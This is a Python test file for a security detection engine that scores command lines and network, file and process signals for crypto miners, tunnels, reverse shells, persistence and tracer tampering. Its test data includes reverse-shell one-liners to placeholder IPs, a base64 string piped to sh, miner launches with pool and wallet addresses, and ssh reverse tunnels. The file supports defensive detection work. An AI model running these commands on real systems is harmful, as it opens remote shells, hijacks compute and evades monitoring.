# SPDX-License-Identifier: Apache-2.0
"""What the packs make of command lines, good and bad ones.

A first word without a slash stands for the file of that name in /usr/bin.
"""

from __future__ import annotations

import re
import shlex

import numpy as np
import pytest

from tracer.detect.execfacts import facts_of
from tracer.detect.facts import FACTS, WORD_BITS, WORDS
from tracer.rules import RuleSet, Sample, load_rules
from tracer.rules.evaluate import evaluate
from tracer.rules.model import ON

XMR = "48edfHu7V9Z84YzzMa6fUueoELZ9ZRXq9VetWzYGzKt52XU5xvqgzYnDK9URnRoJMk1j8nLwEVsaSWJ4fhdUyZijBGUicoD"
ETH = "0x52908400098527886E0F7030069857D2E4169EE7"
REMOTE = "ssh.example.org"

MINERS = f"""
critical  ./xmrig
critical  ./xmrig --version
critical  /tmp/.x/XMRig -c config.json
critical  ./xmrig-6.21.0
critical  /opt/xmrig-notls
critical  ./SRBMiner-MULTI --help
critical  /opt/lolminer/lolMiner --list-devices
critical  ./PhoenixMiner
critical  t-rex -c cfg.json
critical  ./nbminer_linux
critical  ./onezerominer
critical  cpuminer-avx2
critical  minerd
critical  ethminer -G
critical  ./kdevtmpfsi
critical  pearl-gateway start
critical  alpha-miner --pool us1.alphapool.tech:5566 --address prl1qqq --worker a
critical  ./a -o stratum+tcp://pool.example.org:3333 -u me -p x
critical  ./a --url=stratum+ssl://10.0.0.1:443
critical  ./a -ostratum+tcp://10.0.0.1:443
critical  ./a -P stratum2+tls12://{ETH}.rig:x@eu.pool.example:5555
critical  ./a -a kawpow -o [1]stratum+tcp://pool.example:4444 -u w
critical  ./a -o ethproxy+ssl://pool.example:4444
critical  ./a -p zmp+tcp://127.0.0.1:5555
critical  ./a -o daemon+http://127.0.0.1:18081 --coin monero
critical  ./a --pool stratum://pool.example:3333
critical  ./a -o stratum2+tcp://h:34254/9auqWEzQDVyd2oe1JVGFLMLHZtCo2FFqZwtKA5gd9xbuEu7PH72
critical  python3 miner.py -o stratum+tcp://pool.example:3333
critical  docker run --rm img -o stratum+tcp://pool.example:3333
critical  node hash.js --pool=stratum+tcp://pool.example:3333
critical  ./a -o pool.supportxmr.com:443 -u {XMR} -p x
critical  ./a -o xmr.2miners.com:2222 -u me -k
critical  ./a --algo kawpow --pool rvn.2miners.com:6060
critical  ./a -a rx/0 -o gulf.moneroocean.stream:10128
critical  ./a -p eu1.ethermine.org:4444 -w {ETH} --lhr-tune 6
critical  ./a --donate-level 1 --cpu-max-threads-hint=50
critical  ./a --donate-level=0 --randomx-1gb-pages
critical  ./a --randomx-wrmsr=-1 --randomx-mode fast
critical  ./a --nicehash --cpu-no-yield
critical  ./a -epool x:1 -eres 2
critical  ./a -a rx/0 -u {XMR}
critical  ./a --algorithm randomx --wallet {XMR} --pool 1.2.3.4:443
critical  ./a --lhr-tune 2 -u {ETH}
critical  ./miner --algo kawpow --server rvn.2miners.com --port 6060 --user w
critical  miner --algo 144_5 --server 1.2.3.4 --port 1 --user w
critical  ./gminer -s eth.2miners.com
critical  rigel -a karlsenhash -o stratum+tcp://a.b:1
critical  ./rigel -a octopus -o 1.2.3.4:3333
critical  /lib64/ld-linux-x86-64.so.2 ./xmrig -c c.json
critical  /lib64/ld-linux-x86-64.so.2 --preload ./l.so /tmp/.x/lolMiner
critical  /lib/ld-musl-x86_64.so.1 /dev/shm/t-rex
critical  ssh -o stratum+tcp://pool.example:3333
critical  /tmp/systemd-network -o stratum+tcp://pool.example:3333
critical  './[kworker]' -o stratum+tcp://pool.example:3333
critical  memcheck-amd64-linux ./m -o stratum+tcp://pool.example:3333
high      ./a --donate-level 1 -o 1.2.3.4:443
high      ./a --donate-level=1 --coin monero
high      ./a -a rx/0 -o 10.1.2.3:443 -u worker
high      ./a --algo=kheavyhash --pool 10.1.2.3:5555 --wallet w
high      ./a -o 1.2.3.4:443 -u {XMR} -p x
high      ./a -a octopus -o 1.2.3.4:443 -u w -p x
high      ./a --coin ravencoin --url 1.2.3.4:443 --user w --pass x
high      ./a Zm9vIC1vIHN0cmF0dW0rdGNwOi8v N0cmF0dW0rdGNwOi8v
high      python3 -c "import base64;print(base64.b64decode('c3RyYXR1bSt0Y3A6Ly9wb29s'))"
high      ./a LS1kb25hdGUtbGV2ZWw9MQ==
high      vllm serve pearl-ai/Llama-3.1-8B-pearl
high      python3 -m vllm serve --model=pearl-ai/Qwen-pearl
high      systemctl enable --now moneroocean_miner.service
high      service xmrig start
critical  ./a -o kawpow+ssl://pool.example:3333
critical  ./a '{{"url":"stratum+tcp://pool.example:3333","user":"{XMR}"}}'
medium    node cli.js "what is stratum+tcp://pool.example:3333 for?"
medium    bash -c "echo c3RyYXR1bSt0Y3A6Ly9wb29s | base64 -d | sh"
"""

# Nothing at all is said about these.
QUIET = f"""
grep -r stratum+tcp:// .
grep stratum+tcp://pool.example:3333 notes.txt
egrep --regexp=stratum+tcp:// x
rg -e stratum+tcp:// --donate-level --randomx-1gb-pages
/opt/conda/bin/rg stratum+ssl://a.b:1
/home/u/.npm/node_modules/x/vendor/ripgrep/x64-linux/rg -n "stratum+tcp://a.b:1" src
cat xmrig.txt
less /opt/xmrig/README.md
head -n 5 stratum+tcp://x
awk /stratum/ stratum+tcp://x
mawk -v a=stratum+tcp://x:1 1
sed -i s,a,b, stratum+tcp://pool:1
cp xmrig /tmp/y
cp /tmp/y xmrig
mv a xmrig
ln -s a xmrig
rm -rf xmrig
chmod +x xmrig
sha256sum xmrig
tar xf xmrig-6.21.0-linux-x64.tar.gz
unzip xmrig.zip
strings ./xmrig
file ./xmrig
ls -la /opt/xmrig
find / -name xmrig
which xmrig
man xmrig
pgrep -f xmrig
pkill -9 xmrig
killall xmrig
ps aux
git clone https://github.com/xmrig/xmrig
git commit -m "mention stratum+tcp://pool:3333 and serveo.net"
git log --grep=stratum+tcp://
gh pr create --title=stratum+tcp://a.b:1 --body "ngrok.io"
curl -o x https://github.com/xmrig/xmrig/releases/download/v6.21.0/xmrig.tar.gz
curl -u me:pw -o out https://api.nicehash.com/x
curl stratum+tcp://pool:1
wget https://supportxmr.com/ --user=u -O x
curl https://bin.ngrok.com/x
wget https://serveo.net
dig pool.supportxmr.com
ping -c1 xmr.2miners.com
make xmrig
cmake --build . --target xmrig
gcc -DPOOL=stratum+tcp://x:1 -o xmrig xmrig.c
cc1 -DPOOL=stratum+tcp://x:1
apt install xmrig
pip download xmrig
pip install vllm
npm install node-stratum-pool
vim xmrig/config.json
nano stratum+tcp://x
diff xmrig a
jq .pools config.json
docker pull metal3d/xmrig
systemctl stop moneroocean_miner.service
systemctl disable xmrig.service
systemctl status nginx
sh -c "./xmrig -o stratum+tcp://pool:3333"
bash -lc "grep -r stratum+tcp:// ."
bash -c "ssh -R 80:localhost:80 serveo.net"
python3 -c "print('stratum+tcp://pool:3333')" stratum+tcp://pool:3333
nohup ./a -o stratum+tcp://pool:3333
timeout 5 ./a -o stratum+tcp://pool:3333
sudo -u me ./a --donate-level 1 --randomx-1gb-pages
setsid ./xmrig
env -i ./a -o stratum+tcp://pool:3333
xargs ./a -o stratum+tcp://pool:3333
xxd xmrig
busybox grep stratum+tcp://pool:3333 f
claude -p "what does stratum+tcp:// mean, and is --donate-level bad?"
node cli.js "explain ssh -R and stratum+tcp:// pools"
python3 search.py "pools using stratum+tcp://"
python3 -u train.py -o out --algo ppo -p 8080
python3 -u bench.py -o out.json --algo ethash -p 3 -u
python3 train.py --algo=grpo --coin flip --wallet 3 --pool 8
python3 -m torch.distributed.run --nproc_per_node=8 train.py --lr 1e-4 -a bf16
torchrun --nproc-per-node 8 --master-addr 10.0.0.1 train.py
vllm serve meta-llama/Llama-3.1-8B --port 8000
python3 -m vllm.entrypoints.openai.api_server --model pearl
ray start --head --port=6379
sort -u -o out in
nvcc -a x -o out -u gr
python3 send.py --to {ETH}
cast send {ETH} --value 1 -u http://127.0.0.1:8545
geth --miner.etherbase {ETH}
./miner --help
./miner --user bob
miner -v
gminer
rigel
p2pool --version
./trex
./process-miner --algo alpha
hashcat -m 1000 -a 3 -o out hashes.txt
openssl speed -u
ethtool -a eth0
modprobe msr
modprobe nvidia
rsync -a -u -o a b
/lib64/ld-linux-x86-64.so.2 --list /bin/ls
/lib64/ld-linux-x86-64.so.2 /usr/bin/python3 train.py
ssh {REMOTE}
ssh -p 443 git@ssh.github.com git-upload-pack 'a/b.git'
ssh -o ControlMaster=auto -o ControlPersist=60 {REMOTE} hostname
ssh -N {REMOTE}
ssh -T git@github.com
scp -P 2222 a {REMOTE}:b
rsync -e ssh a {REMOTE}:b
ssh-keygen -R {REMOTE}
ssh-add -L
sshd -D -p 2222
socat - TCP:localhost:80
socat TCP-LISTEN:8080,fork TCP:localhost:80
socat TCP-LISTEN:3128,fork,reuseaddr UNIX-CONNECT:/tmp/claude-http.sock
socat -u FILE:a STDOUT
ncat -l 8080
nc -zv localhost 22
nc -l -p 9000
chisel cut --release ubuntu-22.04 --root /r libc6_libs
chisel --help
bore
bore --help
gost --version
code .
code --install-extension x
code tunnel.py
cursor --diff a b
code-server --port 8080
agent -connect
./agent --connect 10.0.0.1:80
npm run lt
lt
lt grep
npc
nebula
tailscale status
tailscale version
zerotier-cli info
devtunnel user show
kubectl port-forward svc/x 8080:80
docker -H ssh://{REMOTE} ps
jupyter lab --port 8888
npx create-react-app tunnel
npm install localtunnel
pip install pyngrok
cat frpc.toml
vim frpc.toml
./server -c server.toml
python3 -c "import gradio" -c frpc.toml
tensorboard --port 6006
node server.js client R
./x client ws://localhost:8000
python3 ws_client.py ws://localhost:8000
wscat -c wss://echo.example
grpcurl -connect-timeout 3 localhost:80
cargo run --bin bore local
tar -c -e x
echo EXEC:bash TCP:1.2.3.4:5
plink {REMOTE}
tsh ls
"""

TUNNELS = f"""
tunnel.ssh-reverse high     ssh -R 8080:localhost:22 {REMOTE}
tunnel.ssh-reverse high     ssh -fNR 8080:localhost:22 {REMOTE}
tunnel.ssh-reverse high     ssh -R8080:localhost:22 {REMOTE}
tunnel.ssh-reverse high     ssh '-oRemoteForward=8080 localhost:22' {REMOTE}
tunnel.ssh-reverse high     ssh -R 1080 {REMOTE}
tunnel.ssh-reverse high     autossh -M 0 -N -R 8080:localhost:22 {REMOTE}
tunnel.ssh-reverse high     dbclient -R 8080:localhost:22 {REMOTE}
tunnel.ssh-local medium     ssh -N -L 8080:localhost:80 {REMOTE}
tunnel.ssh-dynamic high     ssh -D 1080 {REMOTE}
tunnel.ssh-tun high         ssh -w 0:0 {REMOTE}
tunnel.ssh-stdio low        ssh -W db:5432 {REMOTE}
tunnel.tool high     ./frpc -c /tmp/x.toml
tunnel.tool high     frps
tunnel.tool high     /root/.cache/huggingface/gradio/frpc/frpc_linux_amd64_v0.3 http -n x
tunnel.tool high     ngrok http 8080
tunnel.tool high     /tmp/ngrok-v3-stable
tunnel.tool high     rathole client.toml
tunnel.tool high     wstunnel client -L socks5://127.0.0.1:1080 wss://e.example
tunnel.tool high     ligolo-agent
tunnel.tool high     gs-netcat -s secret -l -i
tunnel.tool high     pagekite.py 80 me.pagekite.me
tunnel.tool high     iodine -f -P x t.example.org
tunnel.tool high     dnscat --dns server=1.2.3.4,port=53
tunnel.tool high     ptunnel-ng -p 1.2.3.4
tunnel.tool high     pingtunnel -type client
tunnel.tool high     sshuttle -r me@{REMOTE} 0/0
tunnel.tool high     tailscaled --tun=userspace-networking --socks5-server=localhost:1055
tunnel.tool high     tailscale up --authkey x
tunnel.tool high     tailscale funnel 8080
tunnel.tool high     zerotier-one -d
tunnel.tool high     wireguard-go wg0
tunnel.tool high     boringtun-cli wg0
tunnel.tool high     nebula -config /etc/nebula/config.yml
tunnel.tool high     zrok share public localhost:8080
tunnel.tool high     playit
tunnel.tool high     revsocks -connect 1.2.3.4:8443 -pass x
tunnel.tool high     microsocks -p 1080
tunnel.tool high     upterm host
tunnel.tool high     chisel client 1.2.3.4:8080 R:socks
tunnel.tool high     chisel server --reverse
tunnel.tool high     cloudflared tunnel --url http://localhost:8000
tunnel.tool high     cloudflared tunnel run --token eyJ
tunnel.tool high     ./cloudflared-linux-amd64 tunnel --hello-world
tunnel.tool medium   cloudflared access ssh --hostname x
tunnel.tool medium   cloudflared --version
tunnel.tool high     bore local 8000 --to bore.pub
tunnel.tool high     gost -L=socks5://:1080 -F=relay+tls://1.2.3.4:443
tunnel.tool high     ./npc -server=1.2.3.4:8024 -vkey=abc -type=tcp
tunnel.tool high     lt --port 8000
tunnel.tool high     node /x/node_modules/.bin/lt --port 8000
tunnel.tool high     npx localtunnel --port 8000
tunnel.tool high     ./iox proxy -r 1.2.3.4:9999
tunnel.tool high     ./ew -s rssocks -d 1.2.3.4 -e 8888
tunnel.tool high     code tunnel --accept-server-license-terms
tunnel.tool high     code-tunnel --name x
tunnel.tool high     devtunnel host -p 8080
tunnel.tool high     plink -R 8080:localhost:22 {REMOTE}
tunnel.tool high     tsh ssh -R 8080:localhost:22 {REMOTE}
tunnel.tool high     ncat 1.2.3.4 4444 -e /bin/bash
tunnel.tool high     nc -e /bin/sh 1.2.3.4 4444
tunnel.tool high     nc.traditional -lvpe 4444 /bin/sh
tunnel.tool high     ncat -l --sh-exec=/bin/sh 4444
tunnel.tool high     socat TCP-LISTEN:4444,fork EXEC:/bin/bash,pty
tunnel.tool high     socat exec:'bash -li',pty,stderr,setsid tcp:1.2.3.4:4444
tunnel.tool high     ./renamed OPENSSL:1.2.3.4:443 EXEC:/bin/sh
tunnel.tool high     socat UDP:1.2.3.4:11443 TUN:10.0.0.1/24,up
tunnel.tool high     ./renamed client https://1.2.3.4 R:8000:localhost:22
tunnel.tool high     ./renamed client -R tcp://8000:localhost:22 wss://1.2.3.4:443
tunnel.tool high     ./renamed -c /etc/frpc.toml
tunnel.tool high     ./renamed local 8000 --to 1.2.3.4
tunnel.tool high     ./renamed -server=1.2.3.4:8024 -vkey=abc
tunnel.tool high     ./renamed -connect 1.2.3.4:11601 -ignore-cert
tunnel.tool high     ./renamed -connect=1.2.3.4:11601 -accept-fingerprint AA
tunnel.tool high     /lib64/ld-linux-x86-64.so.2 /tmp/frpc -c x
tunnel.tool medium   autossh -M 0 {REMOTE}
tunnel.tool medium   tor -f torrc
tunnel.tool medium   torsocks ls
tunnel.tool medium   openvpn --config x.ovpn
tunnel.tool medium   wg-quick up wg0
tunnel.tool medium   proxychains4 ls
tunnel.service high  ssh -R 80:localhost:80 serveo.net
tunnel.service high  ssh -R0:localhost:8000 nokey@localhost.run
tunnel.service high  ssh -p 443 -R0:localhost:8000 a.pinggy.io
tunnel.service high  ssh tunnel.us.ngrok.com
tunnel.service high  sshpass -p x ssh me@SRV.US
tunnel.service low   ./renamed --host x.trycloudflare.com
tunnel.service low   python3 app.py --public-url=https://abc.ngrok-free.app
"""

NEGATIVES = {
    "tunnel.service": """
./x --host notserveo.net
./x --host serveo.net.example.org
ssh me@myserveo.net
ssh localhost.running.example
curl https://abc.ngrok-free.app/hook
git push https://x.trycloudflare.com/r.git
bash -c "curl serveo.net"
""",
    "miner.msr-writes": "modprobe msr\nmodprobe kvm allow_writes\n./x allow_writes=on\n",
}

FACTS_ALONE = [
    ("exec.fileless", {"memfd"}, "/memfd:x", "high"),
    ("exec.fileless", {"memfd", "deleted"}, "/memfd:x", "high"),
    ("exec.fileless", {"deleted"}, "/tmp/x", "medium"),
    ("exec.fileless", {"memfd", "deleted"}, "/memfd:runc_cloned:/proc/self/exe", "low"),
    ("exec.fileless", {"memfd"}, "/memfd:crun_cloned:/proc/self/exe", "low"),
    ("exec.fileless", {"memfd"}, "/tmp/memfd:runc_cloned:/proc/self/exe", "high"),
    ("exec.fileless", {"deleted"}, "/usr/bin/runc", "low"),
    ("exec.fileless", {"script", "setid"}, "/usr/bin/x", None),
]


# What a flow or a file must have for a rule to hold: names of groups, and @facts.
WIRE = """
net.metadata-secrets high       metadata-addresses metadata-secrets @http @internal
net.metadata-secrets -          metadata-addresses metadata-secrets @http @internal cloud-sdks
net.metadata-secrets -          metadata-secrets @http @external
miner.stratum critical          json-beginnings stratum-requests
miner.stratum critical          json-beginnings stratum-orders @loopback
miner.stratum critical          @stratum @internal
miner.stratum high              @stratum-v2
miner.stratum critical          @json-rpc-mining @external
miner.stratum medium            @json-rpc-mining @loopback
miner.stratum -                 json-beginnings @external
miner.stratum -                 stratum-requests @http
miner.node medium               @coin-node
miner.pool-name high            pool-domains @tls
miner.pool-name low             pool-domains @tls @tls-http-alpn
miner.pool-name medium          pool-domains @socks4
miner.pool-name medium          pool-domains @socks5
miner.pool-name medium          pool-domains @http-connect
miner.pool-name low             pool-domains @dns
miner.pool-name -               @tls @external
tunnel.wire high                @dns @dns-null-type
tunnel.wire medium              @dns @dns-long-name @dns-high-entropy
tunnel.wire -                   @dns @dns-long-name
tunnel.wire medium              @yamux
tunnel.wire medium              @websocket-unmasked @external
tunnel.wire -                   @websocket-unmasked @internal
tunnel.ssh-wire high            @ssh @external
tunnel.ssh-wire -               @ssh @external @by-ssh
tunnel.ssh-wire high            @ssh @external @accepted @by-ssh
tunnel.ssh-wire medium          @ssh @accepted @loopback
tunnel.ssh-wire medium          @ssh @internal
tunnel.ssh-wire medium          @ssh @by-ssh @protocol-on-foreign-port
tunnel.proxy medium             @socks4
tunnel.proxy medium             @socks5
tunnel.proxy medium             @http-connect
tunnel.proxy medium             @stratum @proxied
tunnel.service-name high        tunnel-services @tls
tunnel.service-name medium      tunnel-services @tls @tls-http-alpn
tunnel.service-name medium      tunnel-services @ssh
tunnel.service-name low         tunnel-services @dns
net.anonymous-tls medium        @tls @tls-without-sni @tls-without-alpn @external @unresolved
net.anonymous-tls -             @tls @tls-without-sni @tls-without-alpn @external @unresolved @accepted
net.anonymous-tls -             @tls @tls-without-sni @tls-without-alpn @internal @unresolved
net.anonymous-tls -             @tls @tls-without-alpn @external @unresolved
net.unexpected low              @unexpected-on-port @external
net.unexpected -                @unexpected-on-port @internal
shell.session high              @shell @external
shell.session medium            @shell @loopback
"""
TUNNELS_SPOKEN = """
chisel frp ngrok cloudflared rathole bore gost wstunnel gsocket nps pagekite teleport dev-tunnel ziti sshuttle iodine
dnscat2 dns2tcp icmp-tunnel wireguard openvpn tailscale zerotier nebula tor tls-tunnel-alpn
"""
CONNECTS = """
tunnel.ssh-pivot high           @ssh-pivot @by-ssh
tunnel.ssh-pivot medium         @ssh-pivot
tunnel.ssh-pivot -              @ssh-pivot @by-ssh @datagrams
tunnel.ssh-pivot -              @by-ssh @internal
net.metadata low                metadata-addresses @internal
net.metadata -                  metadata-addresses @internal @datagrams
net.metadata -                  metadata-addresses dns-port @external
net.kube-api medium             kubelet-ports @internal
net.kube-api -                  kubelet-ports @loopback
net.kube-api low                runtime-api-ports @loopback
net.kube-api -                  runtime-api-ports @external
net.kube-api low                kube-names @internal
"""
SHELLS = """
shell.behind medium             @behind-flow
shell.behind -                  shells @stdin-pipe
shell.reverse high              shells @stdin-network @stdout-network
shell.reverse medium            shells @stdin-network @stdout-network @shell-command
shell.reverse medium            shells @stdin-network
shell.reverse -                 shells @stdout-network
shell.reverse medium            interpreters @stdin-network @stdout-network
shell.reverse -                 interpreters @stdin-network @stdout-network @script
exec.preload high @preloads @preloads-memory @audits
exec.preload medium @preloads @preloads-temporary
exec.preload medium @preloads @audits
exec.preload - @preloads
"""
FILES = """
exec.miner-binary critical      xmrig-strings xmrig-settings pow-names stratum-methods
exec.miner-binary high          cpuminer-strings miner-products stratum-schemes
exec.miner-binary high          @pow-functions hash-rates
exec.miner-binary high          @pow-kernels pool-talk
exec.miner-binary medium        pow-names stratum-schemes
exec.miner-binary medium        @pow-functions
exec.miner-binary medium        @pow-kernels
exec.miner-binary -             stratum-methods hash-rates pool-talk
exec.tunnel-binary high         @go-program tunnel-go-programs
exec.tunnel-binary high         @rust-program tunnel-rust-programs
exec.tunnel-binary medium       @go-program tunnel-go-libraries
exec.tunnel-binary medium       @go-anonymous tunnel-go-garbled
exec.tunnel-binary low          tunnel-c-programs
exec.tunnel-binary -            tunnel-go-programs tunnel-rust-programs tunnel-go-libraries tunnel-go-garbled
exec.packed medium              @packed
exec.packed medium              @packed @upx
exec.packed -                   @upx
"""
TAMPERING = """
tamper.signal high              @signals-tracer
tamper.signal high              @signals-tracer @uncatchable
tamper.signal high              @signals-tracer @uncatchable @to-group
tamper.signal low               @signals-tracer @to-group
tamper.signal -                 @leaves-cgroup
tamper.left-cgroup high         @leaves-cgroup
tamper.left-cgroup high         @leaves-cgroup @by-outsider
tamper.tracer-cgroup high       @moves-tracer
tamper.tracer-cgroup high       @freezes-tracer
tamper.tracer-memory high       @traces-tracer
tamper.bpf high                 @uses-bpf @at-watch
tamper.bpf-used -               @uses-bpf @at-watch
tamper.bpf-used medium          @uses-bpf
tamper.bpf -                    @uses-bpf
tamper.perf-used low            @uses-perf
tamper.mounts high              @changes-mounts
tamper.files high               @changes-files
tamper.module critical          @loads-module
tamper.module -                 @signals-tracer
tamper.flood medium             @floods
"""
SCANS = """
net.scan high                   @scans-addresses
net.scan high                   @scans-ports @by-descendants @by-shell
net.scan -                      @scans-ports @by-descendants
net.scan-below high             @scans-ports @by-descendants
net.scan-below -                @scans-ports @by-descendants @by-shell
net.scan high                   @scans-block @scans-addresses
net.scan medium                 @scans-itself
net.scan -                      @by-descendants
"""
RELAYS = """
tunnel.relay high               @relays-inward
tunnel.relay high               @relays-inward @late-relay @by-relatives
tunnel.relay medium             @relays-inward @for-outsiders
tunnel.relay medium             @relays-outward
tunnel.relay -                  @late-relay @by-relatives
"""
EFFORTS = """
miner.behaviour high            @new-file @few-calls @thin-flow
miner.behaviour medium          @new-file @few-calls @thin-flow @by-interpreter
miner.behaviour medium          @new-file @thin-flow
miner.behaviour medium          @new-file @few-calls @thin-flow-inside
miner.behaviour medium          @huge-pages @few-calls @thin-flow
miner.behaviour low             @few-calls @thin-flow
miner.behaviour low             @few-calls @thin-flow @by-interpreter
miner.behaviour -               @new-file @few-calls @huge-pages
miner.behaviour -               @new-file @few-calls @thin-flow-inside @by-interpreter
miner.behaviour -               @few-calls @thin-flow-inside
miner.behaviour -               @thin-flow
"""
SESSIONS = """
shell.led high                  @runs-when-told @shells-when-told @unresolved
shell.led medium                @runs-when-told @shells-when-told
shell.led medium                @runs-when-told @unresolved
shell.led medium                @connects-when-told @unresolved
shell.led low                   @connects-when-told
shell.led -                     @unresolved
"""
BEACONS = """
tunnel.beacon medium            @checks-in @connects-anew @unresolved
tunnel.beacon low               @checks-in @connects-anew
tunnel.beacon low               @checks-in @unresolved
tunnel.beacon -                 @checks-in @unresolved @keep-alive
tunnel.beacon -                 @connects-anew @unresolved
"""
NAMES = """
tunnel.dns-data high            @names-carry-data @odd-types
tunnel.dns-data medium          @names-carry-data @long-labels
tunnel.dns-data -               @names-carry-data
tunnel.dns-data -               @odd-types @long-labels
"""
FOOTHOLDS = """
foothold.ssh-keys high          @writes-keys
foothold.ssh-keys high          @writes-keys @packaged
foothold.schedule high          @writes-cron
foothold.schedule low           @writes-cron @packaged
foothold.schedule high          @writes-cron @packaged @linked
foothold.service high           @writes-service
foothold.service low            @writes-service @packaged @linked
foothold.startup medium         @writes-startup
foothold.startup low            @writes-startup @packaged
foothold.preload critical       @writes-preload
foothold.account high           @writes-account
foothold.account low            @writes-account @packaged
foothold.preload -              @writes-startup
"""
HAND_OFFS = """
foothold.hand-off medium    at now + 1 hour
foothold.hand-off medium    batch
foothold.hand-off medium    systemd-run --user --on-active=60 /tmp/x
foothold.hand-off medium    crontab /tmp/table
foothold.hand-off medium    crontab -
foothold.hand-off medium    crontab -u root -e
foothold.hand-off medium    systemctl --user enable sync.service
foothold.hand-off medium    loginctl enable-linger agent
foothold.hand-off medium    busctl call org.freedesktop.systemd1 /org/freedesktop/systemd1 org.freedesktop.systemd1.Manager StartTransientUnit
"""
NO_HAND_OFFS = """
crontab -l
systemctl status nginx
systemctl --user list-timers
loginctl list-sessions
busctl list
cat at
grep -r crontab .
batchnorm --help
"""
LOCAL = """
net.runtime-socket medium       runtime-sockets
net.runtime-socket -            @abstract
net.ssh-agent medium ssh-agents
net.ssh-agent medium ssh-agent-folders ssh-agent-names
net.ssh-agent - ssh-agent-folders
net.ssh-agent - ssh-agents @by-ssh
"""
CLIENTS = """
gpu.new-program high @gpu-new-program @gpu-listed @gpu-in-tool-call
gpu.new-program medium @gpu-new-program @gpu-listed
gpu.new-program low @gpu-new-program @gpu-first-client
gpu.new-program - @gpu-new-program @gpu-other-executable
gpu.tool-call medium @gpu-in-tool-call
gpu.tool-call - @gpu-in-tool-call @gpu-listed
gpu.tool-call - @gpu-in-tool-call @gpu-tunes
gpu.tool-call - @gpu-in-tool-call @gpu-other-script
gpu.borrowed medium @gpu-borrowed
gpu.borrowed - @gpu-borrowed @gpu-not-listed
gpu.tuning low @gpu-tunes
gpu.tuning medium @gpu-tunes @gpu-in-tool-call
gpu.tuning medium @gpu-tunes @gpu-new-program
gpu.goes-on medium @gpu-job-idle
gpu.goes-on medium @gpu-forked-on
"""
SIGNALS_ALONE = {
    "flow": WIRE,
    "connect": CONNECTS,
    "exec": SHELLS,
    "file": FILES,
    "tamper": TAMPERING,
    "scan": SCANS,
    "relay": RELAYS,
    "effort": EFFORTS,
    "session": SESSIONS,
    "beacon": BEACONS,
    "dns": NAMES,
    "foothold": FOOTHOLDS,
    "local": LOCAL,
    "gpu": CLIENTS,
}
# What everyday work has on the wire; of it nothing worse than medium is told.
EVERYDAY = """
@tls @tls-http-alpn @external
@tls @tls-without-alpn @external @unresolved
@tls @tls-http-alpn pool-domains @external
@tls @tls-http-alpn tunnel-services @external
@dns pool-domains @internal @datagrams
@dns tunnel-services @internal @datagrams
@dns @dns-txt-type @dns-long-label @datagrams
@http @external json-beginnings
@ssh @external @by-ssh
@ssh @external @by-ssh @protocol-on-foreign-port
@http-connect @internal @proxied
@json-rpc-mining @loopback
@quic @external @datagrams
@websocket @external
@postgres @internal
@icmp @external @datagrams
"""


def rows(text: str, columns: int) -> list[list[str]]:
    """Rows of ``columns`` words, the last one taking the rest of the line."""
    return [line.split(None, columns - 1) for line in text.strip().splitlines()]


def sample(command: str) -> Sample:
    argv = [word.encode() for word in shlex.split(command)]
    path = argv[0] if b"/" in argv[0] else b"/usr/bin/" + argv[0]
    return Sample.from_command(argv, path=path, facts=facts_of(argv, path=path))


@pytest.fixture(scope="module")
def rules() -> RuleSet:
    return load_rules()


def fired(rules: RuleSet, event: Sample) -> dict[str, str]:
    return {rule.id: severity for rule, severity in rules.judge(event)}


@pytest.mark.parametrize(("rule", "severity", "command"), rows(HAND_OFFS, 3))
def test_hand_offs(rules: RuleSet, rule: str, severity: str, command: str):
    assert fired(rules, sample(command)).get(rule) == severity


@pytest.mark.parametrize("command", NO_HAND_OFFS.strip().splitlines())
def test_what_hands_nothing_over(rules: RuleSet, command: str):
    assert fired(rules, sample(command)) == {}


@pytest.mark.parametrize(("severity", "command"), rows(MINERS, 2))
def test_miners(rules: RuleSet, severity: str, command: str):
    assert fired(rules, sample(command)).get("miner.command") == severity


@pytest.mark.parametrize(("rule", "severity", "command"), rows(TUNNELS, 3))
def test_tunnels(rules: RuleSet, rule: str, severity: str, command: str):
    assert fired(rules, sample(command)).get(rule) == severity


@pytest.mark.parametrize("command", QUIET.strip().splitlines())
def test_what_nothing_is_said_about(rules: RuleSet, command: str):
    assert fired(rules, sample(command)) == {}


@pytest.mark.parametrize(
    ("rule", "command"),
    [(rule, command) for rule, text in NEGATIVES.items() for command in text.strip().splitlines()],
)
def test_near_misses(rules: RuleSet, rule: str, command: str):
    assert rule not in fired(rules, sample(command))


def test_msr(rules: RuleSet):
    assert fired(rules, sample("/sbin/modprobe msr allow_writes=on")) == {"miner.msr-writes": "medium"}


@pytest.mark.parametrize(("rule", "facts", "path", "severity"), FACTS_ALONE)
def test_facts_alone(rules: RuleSet, rule: str, facts: set[str], path: str, severity: str | None):
    event = Sample.from_command([path.encode()], facts=frozenset(facts))
    assert fired(rules, event).get(rule) == severity


@pytest.mark.parametrize(
    ("fact", "severity"),
    [("gpu-not-listed", "high"), ("gpu-other-executable", "high"), ("gpu-other-script", "medium")],
)
def test_gpu(rules: RuleSet, fact: str, severity: str):
    event = Sample(facts=frozenset({fact}), on="gpu")
    assert fired(rules, event) == {"gpu.unexpected-client": severity}
    assert fired(rules, Sample(on="gpu")) == {}


def holding(rules: RuleSet, on: str, names: str) -> dict[str, str]:
    """The rules that hold where these groups and facts are."""
    signals = np.zeros(WORDS, np.int64)
    for name in names.split():
        word, bit = divmod(rules.numbers[name], WORD_BITS)
        signals[word] |= 1 << bit
    places = np.zeros(len(rules.rules), np.int64)
    count = evaluate(ON[on], signals, rules.table, places)
    return {rule.id: severity for rule, severity in map(rules.alternative_rule.__getitem__, places[:count])}


@pytest.mark.parametrize(
    ("on", "rule", "severity", "names"),
    [(on, *row) for on, text in SIGNALS_ALONE.items() for row in rows(text, 3)],
)
def test_signals_alone(rules: RuleSet, on: str, rule: str, severity: str, names: str):
    assert holding(rules, on, names).get(rule, "-") == severity


@pytest.mark.parametrize("name", TUNNELS_SPOKEN.split())
def test_tunnels_that_are_spoken(rules: RuleSet, name: str):
    assert holding(rules, "flow", f"@{name} @loopback")["tunnel.wire"] == "high"


@pytest.mark.parametrize("names", EVERYDAY.strip().splitlines())
def test_everyday_flows(rules: RuleSet, names: str):
    assert not {"high", "critical"} & set(holding(rules, "flow", names).values())


def test_every_rule_about_flows_and_files_has_a_sample(rules: RuleSet):
    tried = {
        rule for text in SIGNALS_ALONE.values() for rule, severity, _ in rows(text, 3) if severity != "-"
    }
    packs = ("wire.toml", "shells.toml", "files.toml", "net.toml")
    assert {rule.id for rule in rules.rules if rule.source.endswith(packs)} <= tried


def test_every_group_is_used(rules: RuleSet):
